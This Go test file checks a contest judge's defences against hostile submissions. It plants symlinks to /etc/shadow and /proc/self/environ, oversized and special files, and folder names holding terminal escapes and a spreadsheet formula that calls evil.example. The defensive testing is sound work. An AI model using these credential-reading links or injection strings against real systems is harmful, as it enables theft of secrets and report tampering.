package main

import (
	"encoding/csv"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"

	"bullseye/internal/compile"
	"bullseye/internal/contest"
	"bullseye/internal/outcome"
	"bullseye/internal/report"
	"bullseye/internal/tooltest"
	"bullseye/internal/untrusted"
)

// The attacks of a cheating student and of a malicious classmate on a judge that runs a class,
// each with the verdict a real judge gives. The planted programs are in
// tests/submissions/security (TestPlantedSubmissions judges each alone).

// TestContestUntrustedClass judges a class folder a classmate has booby-trapped: submissions
// that are links to the host's secrets, to the judge's own environment, to the kit's accepted
// solution (a symbolic and a hard link), to a "file" of /proc that never ends; a sparse file of
// a gibibyte, a FIFO, a socket, a device; folder names holding a newline, terminal escapes and a
// spreadsheet formula. Each trap is 0 points with a plain note, nothing from outside the class
// reaches any report, the names are shown escaped, and the judge is done in good time.
func TestContestUntrustedClass(t *testing.T) {
	requireContestTools(t)
	class, outside, out := openTempDir(t), openTempDir(t), openTempDir(t)
	const marker = "the-secret-only-the-host-knows"
	t.Setenv("BULLSEYE_TEST_SECRET", marker)
	secret := filepath.Join(outside, "secret.c")
	if err := os.WriteFile(secret, []byte(marker+" root:$6$x:19000:0:99999:7:::\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	accepted := filepath.Join(kitRoot, "solution", "cpp", "target.cpp")
	// A hard link needs the same file system: to the kit's own file where the class lies on
	// its file system, else to a copy of it.
	linkable := accepted
	if !sameDevice(accepted, class) {
		linkable = filepath.Join(outside, "target.cpp")
		data, err := os.ReadFile(accepted)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(linkable, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	plant(t, class, "accepted/dfs.c", "alice/sudoku.c")
	traps := map[string]func(path string) error{
		"eve/sudoku.c":     func(p string) error { return os.Symlink("/etc/shadow", p) },
		"ivan/sudoku.c":    func(p string) error { return os.Symlink(secret, p) },
		"oscar/sudoku.c":   func(p string) error { return os.Symlink("/proc/self/environ", p) },
		"trudy/sudoku.cpp": func(p string) error { return os.Link(linkable, p) },
		"victor/sudoku.cpp": func(p string) error {
			return os.Symlink(accepted, p)
		},
		"mallory/sudoku.c": func(p string) error { return os.Symlink("/proc/self/pagemap", p) },
		"peggy/sudoku.c": func(p string) error {
			f, err := os.Create(p)
			if err != nil {
				return err
			}
			defer f.Close()
			return f.Truncate(256 << 30)
		},
		"fred/sudoku.c": func(p string) error { return syscall.Mkfifo(p, 0o644) },
		"sybil/sudoku.c": func(p string) error {
			l, err := net.Listen("unix", p)
			if err == nil {
				t.Cleanup(func() { l.Close() })
			}
			return err
		},
	}
	if os.Geteuid() == 0 {
		traps["dave/sudoku.c"] = func(p string) error { return syscall.Mknod(p, syscall.S_IFCHR|0o644, 1<<8|5) } // /dev/zero's numbers
	}
	for name, trap := range traps {
		path := filepath.Join(class, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := trap(path); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
	hostileNames := []string{
		"zed\n   1  zed        100     1 ms  AA",
		"x\x1b[1A\x1b[2K   1  x    100",
		`=HYPERLINK("evil.example?"&A1,"prize")`,
	}
	for _, name := range hostileNames {
		plant(t, class, "wrong_answer/zero.py", name+"/sudoku.py")
	}
	csvFile, jsonFile, htmlFile := filepath.Join(out, "r.csv"), filepath.Join(out, "r.json"), filepath.Join(out, "r.html")
	r := runJudge(t, "--contest", class, "--tests", oneTest(t), "--time-limit", "1s",
		"--csv", csvFile, "--json", jsonFile, "--html", htmlFile)
	if r.code != exitAccepted {
		t.Fatalf("exit status %d, want 0; stdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}

	want := map[string]string{
		"eve": "sudoku.c is a link: not judged", "ivan": "sudoku.c is a link: not judged",
		"oscar": "sudoku.c is a link: not judged", "victor": "sudoku.cpp is a link: not judged",
		"trudy":   "sudoku.cpp is a hard link (one of 2 names of one file): not judged",
		"mallory": "sudoku.c is a link: not judged",
		"peggy":   "sudoku.c is 256.0 GiB, over the source limit of 256 KiB: not judged",
		"fred":    "sudoku.c is a FIFO (a named pipe): not judged",
		"sybil":   "sudoku.c is a socket: not judged",
		"dave":    "sudoku.c is a device: not judged",
	}
	con := readContest(t, jsonFile)
	seen := 0
	for _, x := range con.Contestants {
		switch note, trapped := want[x.Name]; {
		case x.Name == "alice":
			if x.Verdicts != "A" || x.Score != 100 {
				t.Errorf("alice: got %s, %v points; want A, 100", x.Verdicts, x.Score)
			}
		case trapped:
			seen++
			if x.Status != contest.NotJudged || x.Note != note || x.Score != 0 || len(x.Results) != 0 {
				t.Errorf("%s: got %s %q, %v points, %d results; want not judged: %q, 0 points", x.Name, x.Status, x.Note, x.Score, len(x.Results), note)
			}
		default:
			if x.Verdicts != "W" {
				t.Errorf("%q: got %s, want W", x.Name, x.Verdicts)
			}
		}
	}
	if seen != len(traps) {
		t.Errorf("%d trapped contestants in the report, want %d", seen, len(traps))
	}

	// Nothing from outside the class in any report.
	shadow, _ := os.ReadFile("/etc/shadow")
	kitLine := "" // a line of the accepted solution that no other file has
	if data, err := os.ReadFile(accepted); err == nil {
		for _, line := range strings.Split(string(data), "\n") {
			if len(strings.TrimSpace(line)) > 40 {
				kitLine = strings.TrimSpace(line)
				break
			}
		}
	}
	reports := map[string]string{"standard output": r.stdout, "standard error": r.stderr}
	for _, name := range []string{csvFile, jsonFile, htmlFile} {
		data, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		reports[filepath.Base(name)] = string(data)
	}
	for where, text := range reports {
		for _, leak := range []string{marker, firstLine(shadow), kitLine, outside} {
			if leak != "" && strings.Contains(text, leak) {
				t.Errorf("%s quotes what lies outside the class: %q", where, leak)
			}
		}
	}

	// The names: escaped on the terminal, one row each; neutralised in the CSV.
	if strings.ContainsAny(r.stdout+r.stderr, "\x1b") {
		t.Errorf("a terminal escape from a name reached the terminal:\n%s", r.stdout)
	}
	for _, name := range hostileNames[:2] {
		if !strings.Contains(r.stdout, untrusted.Line(name)) {
			t.Errorf("the ranking does not show %q escaped:\n%s", name, r.stdout)
		}
	}
	if rows := regexp.MustCompile(`(?m)^ *\d+  `).FindAllString(r.stdout, -1); len(rows) != len(con.Contestants) {
		t.Errorf("the ranking has %d rows, want %d:\n%s", len(rows), len(con.Contestants), r.stdout)
	}
	f, err := os.Open(csvFile)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	records, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range records[1:] {
		if strings.ContainsAny(row[1][:1], "=+-@\t\r") {
			t.Errorf("the CSV's name cell %q would run as a formula", row[1])
		}
	}
	checkPage(t, htmlFile, []string{"alice", "eve", "trudy"}, []string{"01"})
}

func sameDevice(a, b string) bool {
	var sa, sb syscall.Stat_t
	return syscall.Stat(a, &sa) == nil && syscall.Stat(b, &sb) == nil && sa.Dev == sb.Dev
}

// TestOneRuleEverywhere judges a program that nears its time and memory limits together, in
// contest mode two tests at a time and, in the long tier, alone at -j 1 and -j 2: whichever it
// meets first on a test, the verdict follows the rule (a CPU time over the limit is TLE; a
// memory limit met before it MLE), and no figure is over a limit whose verdict the test did not
// get. Every day its limits are those of the real submission it copies scaled down together
// (an eighth of a second, 8 MiB), the long tier's half a second and the statement's 128 MiB.
func TestOneRuleEverywhere(t *testing.T) {
	requireSandbox(t)
	tooltest.Require(t, "gcc", "gcc")
	tests := smallTests(t)
	file := submission("security/time_and_memory.c")
	limits := tooltest.Pick([]string{"--time-limit", "0.125s", "--memory-limit", "8MiB"}, []string{"--time-limit", "0.5s"})
	// Alone, at -j 1 and -j 2: the long tier's; the contest's run judges two at a time every day.
	for _, jobs := range tooltest.Pick([]string{}, []string{"1", "2"}) {
		r := runJudge(t, append([]string{"-j", jobs, "--tests", tests, "--json", "-", file}, limits...)...)
		if r.report == nil {
			t.Fatalf("-j %s: no report; stderr: %s", jobs, r.stderr)
		}
		for _, test := range r.report.Results {
			if test.Verdict != outcome.TimeLimit && test.Verdict != outcome.MemoryLimit {
				t.Errorf("-j %s, %s: got %s (%s), want TLE or MLE", jobs, test.Name, test.Verdict, test.Message)
			}
		}
		checkFigures(t, r.report)
	}
	class := openTempDir(t)
	plant(t, class, "security/time_and_memory.c", "nora/sudoku.c")
	jsonFile := filepath.Join(openTempDir(t), "r.json")
	r := runJudge(t, append([]string{"--contest", class, "-j", "2", "--tests", tests, "--json", jsonFile}, limits...)...)
	if r.code != exitAccepted {
		t.Fatalf("contest: exit status %d; stderr: %s", r.code, r.stderr)
	}
	con := readContest(t, jsonFile)
	rep := &report.Report{Limits: con.Limits}
	for _, res := range con.Contestants[0].Results {
		if res.Verdict != outcome.TimeLimit && res.Verdict != outcome.MemoryLimit {
			t.Errorf("contest, %s: got %s (%s), want TLE or MLE", res.Test, res.Verdict, res.Message)
		}
		rep.Results = append(rep.Results, report.Test{Name: res.Test, Verdict: res.Verdict, CPUMS: res.CPUMS, PeakKiB: res.PeakKiB, Message: res.Message})
	}
	checkFigures(t, rep)
}

// TestNothingIdentifiesATest judges, in contest mode, a program that prints where its
// descriptors lead, its supervisor's command line and its control groups: the same on both
// tests (a pipe's number aside, which is the machine's count of pipes), and no test's name or
// file.
func TestNothingIdentifiesATest(t *testing.T) {
	requireSandbox(t)
	tooltest.Require(t, "gcc", "gcc")
	class, tests := openTempDir(t), smallTests(t)
	plant(t, class, "security/identity.c", "ivy/sudoku.c")
	jsonFile := filepath.Join(openTempDir(t), "r.json")
	r := runJudge(t, "--contest", class, "--tests", tests, "--json", jsonFile)
	if r.code != exitAccepted {
		t.Fatalf("exit status %d; stderr: %s", r.code, r.stderr)
	}
	results := readContest(t, jsonFile).Contestants[0].Results
	if len(results) != 2 {
		t.Fatalf("got %d results, want 2", len(results))
	}
	pipe := regexp.MustCompile(`pipe:\[\d+\]`)
	first := pipe.ReplaceAllString(results[0].Output, "pipe")
	second := pipe.ReplaceAllString(results[1].Output, "pipe")
	if first != second {
		t.Errorf("the two tests look different to the program:\n%s\n---\n%s", first, second)
	}
	if !strings.Contains(first, "/proc/self/fd/0 -> /memfd:stdin") || !strings.Contains(first, "/proc/1/cmdline: /supervisor __supervise /prog/main") {
		t.Errorf("the program sees:\n%s", first)
	}
	for _, leak := range []string{tests, "01.in", "08.in", "__supervise {"} {
		if strings.Contains(first, leak) {
			t.Errorf("the program sees %q:\n%s", leak, first)
		}
	}
}

// TestBuildCacheBound judges a program with an initialised array that makes its executable as
// big, with a build cache bounded below it: accepted, and once judged the cache is within its
// bound, the big build out of it first. (The long tier judges the 200 MiB one.)
func TestBuildCacheBound(t *testing.T) {
	requireSandbox(t)
	tooltest.Require(t, "gcc", "gcc")
	// A cache of this test's own, with the reference solution's build of the shared one, so
	// that the bound is this test's to see and no Go toolchain is built again.
	cache := openTempDir(t)
	seedCache(t, cache)
	mib := tooltest.Pick("9", "200")
	bound := int64(8 << 20)
	r := runJudge(t, "--cache", cache, "--cache-size", "8MiB", "--cflags", "-O2 -std=gnu11 -DMIB="+mib,
		"--tests", oneTest(t), "--json", "-", submission("security/big_array.c"))
	if r.report == nil || r.report.Summary.Verdict != outcome.Accepted {
		t.Fatalf("got %s, want AC; stderr: %s", verdicts(r.report), r.stderr)
	}
	if size := compile.CacheBytes(cache); size > bound {
		t.Errorf("the build cache takes %d bytes after the judging, want at most %d", size, bound)
	}
}
